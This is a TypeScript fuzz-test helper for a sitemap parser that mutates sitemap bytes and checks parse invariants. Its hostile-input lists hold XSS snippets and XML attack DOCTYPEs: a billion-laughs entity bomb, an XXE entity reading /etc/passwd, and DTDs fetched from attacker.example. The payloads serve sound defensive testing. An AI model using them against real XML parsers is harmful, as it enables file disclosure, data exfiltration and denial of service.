/**
 * Mutations of sitemap bytes for the fuzz tests (issue #7): fast-check arbitraries that describe a
 * mutation as plain data (so a failing run prints and shrinks to a readable recipe) and `applyMutations`
 * that performs them. Also the invariants every read and check must keep. Test-only, Node.
 */
import { gzipSync } from "node:zlib";
import fc from "fast-check";
import type { Problem, SitemapFile } from "@/core/index";
import { getRule, isRuleCode } from "@/core/index";

/** Positions are drawn in [0, POSITION_SCALE) and scaled to the input's length. */
const POSITION_SCALE = 1 << 20;

/** Text a hostile or careless file puts in the middle of markup. */
export const HOSTILE_SNIPPETS = [
  "&nbsp;",
  "&#0;",
  "&#x110000;",
  "&#xD800;",
  "&#99999999999999999999;",
  "&a;",
  "&;",
  "&#;",
  "&#x;",
  "&amp;",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "<script>alert(1)</script>",
  "<![CDATA[",
  "]]>",
  "<!--",
  "-->",
  '<?xml version="1.0"?>',
  "<?pi x?>",
  "</url>",
  "<url>",
  "<loc>javascript:alert(1)</loc>",
  '<xhtml:link rel="alternate" hreflang="x" href="javascript:alert(1)"/>',
  "\u0000",
  "\uFFFE",
  "\uD800",
  "\r",
  "<",
  ">",
  "&",
  '"',
] as const;

/** DOCTYPEs with entity declarations: billion laughs, external and parameter entities. */
export const HOSTILE_DOCTYPES = [
  `<!DOCTYPE urlset [<!ENTITY a "aaaaaaaaaa">${Array.from(
    { length: 9 },
    (_, i) => `<!ENTITY ${"b".repeat(i + 1)} "${`&${i === 0 ? "a" : "b".repeat(i)};`.repeat(10)}">`,
  ).join("")}]>`,
  '<!DOCTYPE urlset [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
  '<!DOCTYPE urlset [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>',
  '<!DOCTYPE urlset SYSTEM "http://attacker.example/s.dtd">',
  '<!DOCTYPE urlset [<!ENTITY loc "https://www.example.com/">]>',
  "<!DOCTYPE urlset [",
  "<!DOCTYPE",
] as const;

export type Mutation =
  | { kind: "truncate"; at: number }
  | { kind: "flip"; at: number; mask: number }
  | { kind: "insert-bytes"; at: number; bytes: number[] }
  | { kind: "delete"; at: number; length: number }
  | { kind: "duplicate-tag"; at: number; times: number }
  | { kind: "drop-tag"; at: number }
  | { kind: "insert-text"; at: number; text: string }
  | { kind: "doctype"; text: string }
  | { kind: "nest"; at: number; depth: number; name: string; closed: boolean };

/** What happens to the mutated bytes last: nothing, gzip, or gzip then a broken compressed stream. */
export type Wrap = "none" | "gzip" | "gzip-truncated" | "gzip-flipped";

export interface MutationPlan {
  mutations: Mutation[];
  wrap: Wrap;
}

const at = fc.integer({ min: 0, max: POSITION_SCALE - 1 });

/** One mutation of any kind. */
export const mutationArb: fc.Arbitrary<Mutation> = fc.oneof(
  fc.record({ kind: fc.constant("truncate" as const), at }),
  fc.record({ kind: fc.constant("flip" as const), at, mask: fc.integer({ min: 1, max: 255 }) }),
  fc.record({
    kind: fc.constant("insert-bytes" as const),
    at,
    bytes: fc.array(fc.integer({ min: 0, max: 255 }), { minLength: 1, maxLength: 16 }),
  }),
  fc.record({ kind: fc.constant("delete" as const), at, length: fc.integer({ min: 1, max: 64 }) }),
  fc.record({ kind: fc.constant("duplicate-tag" as const), at, times: fc.integer({ min: 1, max: 3 }) }),
  fc.record({ kind: fc.constant("drop-tag" as const), at }),
  fc.record({ kind: fc.constant("insert-text" as const), at, text: fc.constantFrom(...HOSTILE_SNIPPETS) }),
  fc.record({ kind: fc.constant("doctype" as const), text: fc.constantFrom(...HOSTILE_DOCTYPES) }),
  fc.record({
    kind: fc.constant("nest" as const),
    at,
    depth: fc.integer({ min: 1, max: 3_000 }),
    name: fc.constantFrom("a", "url", "loc", "urlset", "image:image", "video:video", "x:y"),
    closed: fc.boolean(),
  }),
);

/** One to four mutations, then a wrap (plain most of the time). */
export const planArb: fc.Arbitrary<MutationPlan> = fc.record({
  mutations: fc.array(mutationArb, { minLength: 1, maxLength: 4 }),
  wrap: fc.constantFrom<Wrap>("none", "none", "none", "gzip", "gzip-truncated", "gzip-flipped"),
});

const encoder = new TextEncoder();

function splice(bytes: Uint8Array, start: number, deleteCount: number, insert: Uint8Array): Uint8Array {
  const out = new Uint8Array(bytes.length - deleteCount + insert.length);
  out.set(bytes.subarray(0, start));
  out.set(insert, start);
  out.set(bytes.subarray(start + deleteCount), start + insert.length);
  return out;
}

const scale = (position: number, length: number) => Math.floor((position / POSITION_SCALE) * (length + 1));

/** The tag (`<` to `>`) at or after `from`, or undefined. */
function findTag(bytes: Uint8Array, from: number): { start: number; end: number } | undefined {
  const start = bytes.indexOf(0x3c, from);
  if (start < 0) return undefined;
  const close = bytes.indexOf(0x3e, start);
  return close < 0 ? undefined : { start, end: close + 1 };
}

/** The whole element a start tag opens (to its end tag within 64 KB), else the tag alone. */
function elementAt(bytes: Uint8Array, tag: { start: number; end: number }): { start: number; end: number } {
  const text = new TextDecoder("latin1").decode(bytes.subarray(tag.start, tag.end));
  const name = /^<([A-Za-z_][\w:.-]*)/.exec(text)?.[1];
  if (!name || text.endsWith("/>")) return tag;
  const endTag = encoder.encode(`</${name}>`);
  const limit = Math.min(bytes.length, tag.end + 65_536);
  const found = Buffer.from(bytes.buffer, bytes.byteOffset, limit).indexOf(endTag, tag.end);
  return found < 0 ? tag : { start: tag.start, end: found + endTag.length };
}

/** After the XML declaration when there is one, else at the start. */
function prologEnd(bytes: Uint8Array): number {
  const head = new TextDecoder("latin1").decode(bytes.subarray(0, 512));
  const decl = /^\s*(?:\uFEFF|\xEF\xBB\xBF)?<\?xml[^>]*\?>/.exec(head);
  return decl ? decl[0].length : 0;
}

function applyOne(bytes: Uint8Array, m: Mutation): Uint8Array {
  const none = new Uint8Array(0);
  switch (m.kind) {
    case "truncate":
      return bytes.slice(0, scale(m.at, bytes.length));
    case "flip": {
      if (bytes.length === 0) return bytes;
      const out = bytes.slice();
      out[Math.min(bytes.length - 1, scale(m.at, bytes.length))] ^= m.mask;
      return out;
    }
    case "insert-bytes":
      return splice(bytes, scale(m.at, bytes.length), 0, new Uint8Array(m.bytes));
    case "delete": {
      const start = scale(m.at, bytes.length);
      return splice(bytes, start, Math.min(m.length, bytes.length - start), none);
    }
    case "duplicate-tag": {
      const tag = findTag(bytes, scale(m.at, bytes.length));
      if (!tag) return bytes;
      const element = elementAt(bytes, tag);
      const copy = bytes.subarray(element.start, element.end);
      const copies = new Uint8Array(copy.length * m.times);
      for (let i = 0; i < m.times; i++) copies.set(copy, i * copy.length);
      return splice(bytes, element.end, 0, copies);
    }
    case "drop-tag": {
      const tag = findTag(bytes, scale(m.at, bytes.length));
      return tag ? splice(bytes, tag.start, tag.end - tag.start, none) : bytes;
    }
    case "insert-text":
      return splice(bytes, scale(m.at, bytes.length), 0, encoder.encode(m.text));
    case "doctype":
      return splice(bytes, prologEnd(bytes), 0, encoder.encode(`\n${m.text}\n`));
    case "nest": {
      const open = `<${m.name}>`.repeat(m.depth);
      const text = m.closed ? open + `</${m.name}>`.repeat(m.depth) : open;
      return splice(bytes, scale(m.at, bytes.length), 0, encoder.encode(text));
    }
  }
}

/** The bytes after every mutation of `plan`, then its wrap. Never mutates `bytes`. */
export function applyPlan(bytes: Uint8Array, plan: MutationPlan): Uint8Array {
  let out = bytes;
  for (const mutation of plan.mutations) out = applyOne(out, mutation);
  if (plan.wrap === "none") return out;
  const gz = new Uint8Array(gzipSync(out, { level: 1 }));
  if (plan.wrap === "gzip-truncated") return gz.slice(0, Math.max(10, gz.length >> 1));
  if (plan.wrap === "gzip-flipped" && gz.length > 20) gz[gz.length >> 1] ^= 0x5a;
  return gz;
}

/** The path of the first value in `value` that is not plain data (a Worker could not clone it as is). */
export function findNonPlainValue(value: unknown, path = "$"): string | undefined {
  if (value === undefined || value === null || typeof value === "string" || typeof value === "boolean")
    return undefined;
  if (typeof value === "number") return Number.isFinite(value) ? undefined : `${path} = ${value}`;
  if (typeof value !== "object") return `${path}: ${typeof value}`;
  if (Array.isArray(value)) {
    for (let i = 0; i < value.length; i++) {
      const bad = findNonPlainValue(value[i], `${path}[${i}]`);
      if (bad) return bad;
    }
    return undefined;
  }
  const proto = Object.getPrototypeOf(value);
  if (proto !== Object.prototype && proto !== null) return `${path}: ${proto?.constructor?.name}`;
  for (const [key, item] of Object.entries(value)) {
    const bad = findNonPlainValue(item, `${path}.${key}`);
    if (bad) return bad;
  }
  return undefined;
}

const isPositiveInteger = (n: unknown) => typeof n === "number" && Number.isInteger(n) && n >= 1;

/**
 * What is wrong with one problem (empty when nothing): a catalogue code, the catalogue's severity, a
 * message, positive integer line and column, an entry index inside its file.
 */
export function problemFaults(problem: Problem, files: readonly SitemapFile[]): string[] {
  const faults: string[] = [];
  const where = `${problem.code} in ${JSON.stringify(problem.file)}`;
  if (!isRuleCode(problem.code)) return [`unknown code ${problem.code}`];
  if (problem.severity !== getRule(problem.code).severity)
    faults.push(`${where}: severity ${problem.severity}`);
  if (typeof problem.message !== "string" || problem.message === "") faults.push(`${where}: no message`);
  if (problem.line !== undefined && !isPositiveInteger(problem.line))
    faults.push(`${where}: line ${problem.line}`);
  if (problem.column !== undefined && !isPositiveInteger(problem.column))
    faults.push(`${where}: column ${problem.column}`);
  if (problem.entry !== undefined) {
    const file = files.find((candidate) => candidate.name === problem.file);
    const size = file ? Math.max(file.urls.length, file.sitemaps.length) : 0;
    if (!Number.isInteger(problem.entry) || problem.entry < 0 || problem.entry >= size)
      faults.push(`${where}: entry ${problem.entry} of ${size}`);
  }
  return faults;
}

/** Every invariant of a read file and its check: plain data, known format, valid problems. */
export function readFaults(file: SitemapFile, checked: Problem[], files: readonly SitemapFile[]): string[] {
  const faults: string[] = [];
  const formats = ["urlset", "sitemapindex", "txt", "rss", "atom", "robots", "unknown"];
  if (!formats.includes(file.format)) faults.push(`format ${file.format}`);
  if (!Number.isInteger(file.byteLength) || file.byteLength < 0) faults.push(`byteLength ${file.byteLength}`);
  const nonPlain = findNonPlainValue(file);
  if (nonPlain) faults.push(`not plain data: ${nonPlain}`);
  for (const url of file.urls) if (typeof url.loc !== "string") faults.push(`loc ${typeof url.loc}`);
  for (const problem of [...file.problems, ...checked]) faults.push(...problemFaults(problem, files));
  return faults;
}
